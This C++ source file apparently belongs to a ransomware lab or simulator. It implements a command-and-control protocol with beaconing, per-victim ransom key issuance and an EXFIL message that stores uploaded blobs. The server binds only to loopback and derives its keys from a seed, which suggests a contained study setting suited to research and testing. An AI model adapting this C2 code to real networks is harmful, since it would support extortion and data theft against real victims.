#include "rlab/c2.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <charconv>
#include <cstdio>
#include <cstring>

#include "rlab/error.hpp"

namespace rlab {

namespace {

constexpr std::size_t kHeaderSize = 5;

std::uint64_t hash_id(std::string_view s) {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (char c : s) {
        h ^= static_cast<std::uint8_t>(c);
        h *= 0x100000001b3ULL;
    }
    return h;
}

std::uint64_t derive_seed(std::uint64_t seed, std::string_view sample_id, KeyScheme scheme) {
    return mix64(seed ^ mix64(hash_id(sample_id) + static_cast<std::uint64_t>(scheme) * kGoldenGamma));
}

std::string derived_id(const char* prefix, std::uint64_t s) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%s-%08llx", prefix, static_cast<unsigned long long>(s >> 32));
    return buf;
}

struct KeyRequest {
    std::string sample_id;
    KeyScheme scheme;
};

KeyRequest decode_key_request(ByteView payload) {
    ByteReader in(payload, ErrorKind::ProtocolError);
    KeyRequest req;
    req.sample_id = in.str16();
    auto scheme = in.u8();
    if (scheme > static_cast<std::uint8_t>(KeyScheme::AsymmetricPublic))
        throw Error(ErrorKind::ProtocolError, "unknown key scheme " + std::to_string(scheme));
    req.scheme = static_cast<KeyScheme>(scheme);
    if (!in.done()) throw Error(ErrorKind::ProtocolError, "trailing octets in KEY_REQUEST");
    return req;
}

void write_all(int fd, ByteView data) {
    std::size_t off = 0;
    while (off < data.size()) {
        auto n = ::send(fd, data.data() + off, data.size() - off, MSG_NOSIGNAL);
        if (n <= 0) throw Error(ErrorKind::FrameError, "send failed: " + std::string(std::strerror(errno)));
        off += static_cast<std::size_t>(n);
    }
}

/// Reads until one full frame is buffered. Returns nullopt on clean EOF
/// between frames.
std::optional<C2Message> read_frame(int fd, Bytes& pending) {
    std::uint8_t buf[4096];
    for (;;) {
        std::size_t consumed = 0;
        if (auto msg = try_decode_frame(pending, consumed)) {
            pending.erase(pending.begin(), pending.begin() + static_cast<std::ptrdiff_t>(consumed));
            return msg;
        }
        auto n = ::recv(fd, buf, sizeof buf, 0);
        if (n < 0) throw Error(ErrorKind::FrameError, "recv failed: " + std::string(std::strerror(errno)));
        if (n == 0) {
            if (pending.empty()) return std::nullopt;
            throw Error(ErrorKind::FrameError, "connection closed mid-frame");
        }
        pending.insert(pending.end(), buf, buf + n);
    }
}

}  // namespace

std::string_view to_string(C2MessageType t) {
    switch (t) {
    case C2MessageType::BEACON: return "BEACON";
    case C2MessageType::KEY_REQUEST: return "KEY_REQUEST";
    case C2MessageType::KEY_RESPONSE: return "KEY_RESPONSE";
    case C2MessageType::EXFIL: return "EXFIL";
    case C2MessageType::ACK: return "ACK";
    }
    return "UNKNOWN";
}

Bytes encode_message(const C2Message& msg) {
    if (msg.payload.size() > 0xffffffffULL) throw Error(ErrorKind::FrameError, "payload exceeds 2^32-1 octets");
    Bytes out;
    out.reserve(kHeaderSize + msg.payload.size());
    put_u32(out, static_cast<std::uint32_t>(msg.payload.size()));
    put_u8(out, static_cast<std::uint8_t>(msg.type));
    put_bytes(out, msg.payload);
    return out;
}

std::optional<C2Message> try_decode_frame(ByteView buffer, std::size_t& consumed) {
    if (buffer.size() < kHeaderSize) return std::nullopt;
    ByteReader in(buffer, ErrorKind::FrameError);
    std::size_t len = in.u32();
    auto type = in.u8();
    if (type > kMaxC2MessageType) throw Error(ErrorKind::ProtocolError, "unknown message type " + std::to_string(type));
    if (in.remaining() < len) return std::nullopt;
    C2Message msg{static_cast<C2MessageType>(type), in.bytes(len)};
    consumed = kHeaderSize + len;
    return msg;
}

C2Message decode_message(ByteView frame) {
    if (frame.size() < kHeaderSize) throw Error(ErrorKind::FrameError, "frame shorter than header");
    std::size_t consumed = 0;
    auto msg = try_decode_frame(frame, consumed);
    if (!msg) throw Error(ErrorKind::FrameError, "truncated frame payload");
    if (consumed != frame.size()) throw Error(ErrorKind::FrameError, "trailing octets after frame");
    return *msg;
}

Bytes encode_key_request(std::string_view sample_id, KeyScheme scheme) {
    Bytes out;
    put_str16(out, sample_id);
    put_u8(out, static_cast<std::uint8_t>(scheme));
    return out;
}

SymKey C2State::derive_symmetric(std::uint64_t seed, std::string_view sample_id) {
    auto s = derive_seed(seed, sample_id, KeyScheme::Symmetric);
    Rng rng(s);
    auto key = keygen_symmetric(rng);
    key.key_id = derived_id("c2s", s);
    return key;
}

AsymKeyPair C2State::derive_pair(std::uint64_t seed, std::string_view sample_id) {
    auto s = derive_seed(seed, sample_id, KeyScheme::AsymmetricPublic);
    Rng rng(s);
    auto pair = keygen_asymmetric(rng);
    pair.pair_id = derived_id("c2k", s);
    pair.pub.key_id = pair.pair_id;
    pair.priv.key_id = pair.pair_id;
    return pair;
}

C2Message C2State::handle(const C2Message& msg) {
    switch (msg.type) {
    case C2MessageType::BEACON:
        ++beacons_;
        return C2Message{C2MessageType::ACK, {}};
    case C2MessageType::KEY_REQUEST: {
        auto req = decode_key_request(msg.payload);
        auto& issued = issued_[req.sample_id];
        if (req.scheme == KeyScheme::Symmetric) {
            if (!issued.sym) issued.sym = derive_symmetric(seed_, req.sample_id);
            return C2Message{C2MessageType::KEY_RESPONSE, serialize_key(*issued.sym)};
        }
        if (!issued.pair) issued.pair = derive_pair(seed_, req.sample_id);
        return C2Message{C2MessageType::KEY_RESPONSE, serialize_key(issued.pair->pub)};
    }
    case C2MessageType::EXFIL: {
        auto blob = decode_blob(msg.payload);
        received_.push_back(blob);
        return C2Message{C2MessageType::ACK, to_bytes(blob.blob_id)};
    }
    case C2MessageType::KEY_RESPONSE:
    case C2MessageType::ACK:
        break;
    }
    throw Error(ErrorKind::ProtocolError, "server cannot handle " + std::string(to_string(msg.type)));
}

Keyring C2State::attacker_keys() const {
    Keyring ring;
    for (const auto& [id, keys] : issued_) {
        if (keys.sym) ring.add(*keys.sym);
        if (keys.pair) ring.add(keys.pair->priv);
    }
    return ring;
}

C2Message InProcEndpoint::exchange(const C2Message& request) {
    auto reply = state_.handle(decode_message(encode_message(request)));
    return decode_message(encode_message(reply));
}

TcpEndpoint::TcpEndpoint(std::string host, std::uint16_t port) : host_(std::move(host)), port_(port) {}

TcpEndpoint::~TcpEndpoint() {
    if (fd_ >= 0) ::close(fd_);
}

void TcpEndpoint::connect_once() {
    if (fd_ >= 0) return;
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port_);
    if (::inet_pton(AF_INET, host_ == "localhost" ? "127.0.0.1" : host_.c_str(), &addr.sin_addr) != 1)
        throw Error(ErrorKind::FrameError, "cannot parse C2 host '" + host_ + "'");
    int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) throw Error(ErrorKind::FrameError, "socket failed");
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
        ::close(fd);
        throw Error(ErrorKind::FrameError,
                    "C2 unreachable at " + host_ + ":" + std::to_string(port_) + ": " + std::strerror(errno));
    }
    fd_ = fd;
}

C2Message TcpEndpoint::exchange(const C2Message& request) {
    connect_once();
    write_all(fd_, encode_message(request));
    auto reply = read_frame(fd_, pending_);
    if (!reply) throw Error(ErrorKind::FrameError, "C2 closed the connection");
    return *reply;
}

std::pair<std::string, std::uint16_t> parse_c2_address(std::string_view addr) {
    auto colon = addr.rfind(':');
    if (colon == std::string_view::npos || colon == 0)
        throw Error(ErrorKind::ConfigError, "C2 address must be host:port, got '" + std::string(addr) + "'");
    unsigned port = 0;
    auto digits = addr.substr(colon + 1);
    auto [ptr, ec] = std::from_chars(digits.data(), digits.data() + digits.size(), port);
    if (ec != std::errc() || ptr != digits.data() + digits.size() || port == 0 || port > 65535)
        throw Error(ErrorKind::ConfigError, "invalid C2 port in '" + std::string(addr) + "'");
    return {std::string(addr.substr(0, colon)), static_cast<std::uint16_t>(port)};
}

void serve_tcp(C2State& state, std::uint16_t port, std::size_t max_connections,
               const std::function<void(std::uint16_t)>& on_listening) {
    int listener = ::socket(AF_INET, SOCK_STREAM, 0);
    if (listener < 0) throw Error(ErrorKind::FrameError, "socket failed");
    int one = 1;
    ::setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 || ::listen(listener, 4) != 0) {
        ::close(listener);
        throw Error(ErrorKind::FrameError, "cannot listen on port " + std::to_string(port));
    }
    socklen_t len = sizeof addr;
    ::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len);
    if (on_listening) on_listening(ntohs(addr.sin_port));

    for (std::size_t served = 0; max_connections == 0 || served < max_connections; ++served) {
        int conn = ::accept(listener, nullptr, nullptr);
        if (conn < 0) continue;
        Bytes pending;
        try {
            while (auto msg = read_frame(conn, pending)) write_all(conn, encode_message(state.handle(*msg)));
        } catch (const Error&) {
            // Protocol violations drop the connection; the server keeps running.
        }
        ::close(conn);
    }
    ::close(listener);
}

}  // namespace rlab
